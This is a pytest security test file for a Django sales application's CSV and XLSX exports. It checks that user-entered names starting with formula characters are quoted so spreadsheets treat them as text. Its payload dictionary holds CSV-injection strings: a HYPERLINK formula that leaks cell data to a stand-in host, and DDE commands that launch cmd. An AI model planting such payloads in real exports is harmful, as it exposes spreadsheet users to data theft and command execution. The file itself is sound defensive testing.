"""Spreadsheet formula injection (OWASP "CSV injection") in every kind of export.

A name typed by a user — a customer, a deal, a task, a course, a person, an org unit, a CRM
connection — that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return comes out
of a CSV or XLSX export with a leading single quote, so a spreadsheet shows it as text instead
of running it. Numbers stay numbers. Paths: the API's ``?format=csv|xlsx`` renderers
(`salesgoals/api/renderers.py` → `salesgoals/exports.py`), the payroll page export
(`incentives/views`) and the target grid workbook (`targets/excel.py`).
"""

from __future__ import annotations

import csv
import io
from decimal import Decimal
from typing import Any

import pytest
from django.db import transaction
from openpyxl import load_workbook
from rest_framework.test import APIClient

from crm_sync.models import Connection
from kpis.models import Customer, Deal
from plans.models import Task
from salesgoals.exports import neutralise, to_csv, to_xlsx
from salesgoals.models import OrgUnit, User
from targets.models import TargetLine
from tests.security.world import World, build_world
from training.models import Course

PAYLOADS = {
    "customer": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "deal": "+1+cmd|' /C calc'!A0",
    "task": "-2+3+cmd|' /C notepad'!A0",
    "course": "@SUM(1+1)*cmd|' /C calc'!A0",
    "person": "\t=1+1",
    "unit": "=1+2",
    "connection": "\r=cmd|' /C calc'!A0",
}


@pytest.fixture(scope="module")
def world(django_db_setup, django_db_blocker):
    with django_db_blocker.unblock(), transaction.atomic():
        built = build_world()
        # Straight into the rows: the point is what an export does with whatever is stored.
        Customer.objects.filter(pk=built.objects["customer"]["own"].pk).update(
            name=PAYLOADS["customer"]
        )
        Deal.objects.filter(pk=built.objects["deal"]["own"].pk).update(name=PAYLOADS["deal"])
        Task.objects.filter(pk=built.objects["task"]["own"].pk).update(title=PAYLOADS["task"])
        Course.objects.filter(pk=built.objects["course"]["own"].pk).update(title=PAYLOADS["course"])
        User.objects.filter(pk=built.org.rep_c.pk).update(display_name=PAYLOADS["person"])
        OrgUnit.objects.filter(pk=built.org.north.pk).update(name=PAYLOADS["unit"])
        TargetLine.objects.filter(owner_type="unit", owner_id=built.org.north.pk).update(
            name=PAYLOADS["unit"]
        )
        Connection.objects.filter(pk=built.objects["connection"]["own"].pk).update(
            name=PAYLOADS["connection"]
        )
        yield built
        transaction.set_rollback(True)


@pytest.fixture
def admin_client(world: World, db: None) -> APIClient:
    client = APIClient()
    client.force_login(world.org.admin)
    return client


def csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def xlsx_cells(body: bytes) -> list[Any]:
    book = load_workbook(io.BytesIO(body))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    formulas = [c.coordinate for c in cells if c.data_type == "f"]
    assert formulas == [], f"cells stored as formulas: {formulas}"
    return [c.value for c in cells]


def assert_neutralised(cells: list[Any], payload: str) -> None:
    found = [c for c in cells if isinstance(c, str) and payload.strip() in c]
    assert found, f"{payload!r} is not in the export"
    for cell in found:
        # The whole cell, or a name indented in a tree (target grid): quoted where it starts.
        assert cell.lstrip(" ") == "'" + payload or cell.lstrip(" ").startswith("'"), cell
    assert payload not in cells


EXPORTS = [
    ("kpis customers", "/api/v1/customers/", "customer"),
    ("kpis deals", "/api/v1/deals/", "deal"),
    ("plans tasks", "/api/v1/tasks/", "task"),
    ("training courses", "/api/v1/courses/", "course"),
    ("core users", "/api/v1/users/", "person"),
    ("core org units", "/api/v1/org-units/", "unit"),
    ("crm connections", "/api/v1/crm/connections/", "connection"),
    ("incentives statements", "/api/v1/statements/", "person"),
    ("incentives payroll page", "/incentives/statements/payroll/", "person"),
]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize(("label", "url", "what"), EXPORTS, ids=[e[0] for e in EXPORTS])
def test_export_neutralises_formulas(admin_client, label, url, what, fmt) -> None:
    response = admin_client.get(url, {"format": fmt})
    assert response.status_code == 200, response.content[:300]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    cells = csv_cells(body) if fmt == "csv" else xlsx_cells(body)
    assert_neutralised(cells, PAYLOADS[what])


@pytest.mark.parametrize(
    "url", ["/targets/{pk}/export.xlsx", "/api/v1/target-plans/{pk}/workbook/"]
)
def test_target_grid_workbook_neutralises_unit_names(admin_client, world, url) -> None:
    plan = world.objects["target_plan"]["own"]  # North's plan: its root line is North
    response = admin_client.get(url.format(pk=plan.pk))
    assert response.status_code == 200
    cells = xlsx_cells(response.content)
    assert_neutralised(cells, PAYLOADS["unit"])
    assert any(isinstance(c, float | int) and not isinstance(c, bool) for c in cells)


# --- the rule itself -------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-x", "'-x"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-12.50", "-12.50"),  # a negative amount rendered as a decimal string stays a number
        ("+3", "+3"),
        ("-1,234.50", "-1,234.50"),
        ("-5%", "-5%"),
        ("-1e3", "-1e3"),
        ("-1+1", "'-1+1"),
        ("Acme = fine", "Acme = fine"),
        ("", ""),
        (-12, -12),
        (Decimal("-3.5"), Decimal("-3.5")),
        (-0.25, -0.25),
        (None, None),
    ],
)
def test_neutralise(value, expected) -> None:
    assert neutralise(value) == expected


def test_numbers_stay_numbers_in_both_formats() -> None:
    rows = [{"name": "=evil()", "amount": -12, "rate": Decimal("-0.5"), "text": "-7.25"}]
    assert csv_cells(to_csv(rows))[4:] == ["'=evil()", "-12", "-0.5", "-7.25"]
    book = load_workbook(io.BytesIO(to_xlsx(rows)))
    values = [c.value for c in book.active[2]]
    assert values == ["'=evil()", -12, -0.5, "-7.25"]
    assert [c.data_type for c in book.active[2]] == ["s", "n", "n", "s"]
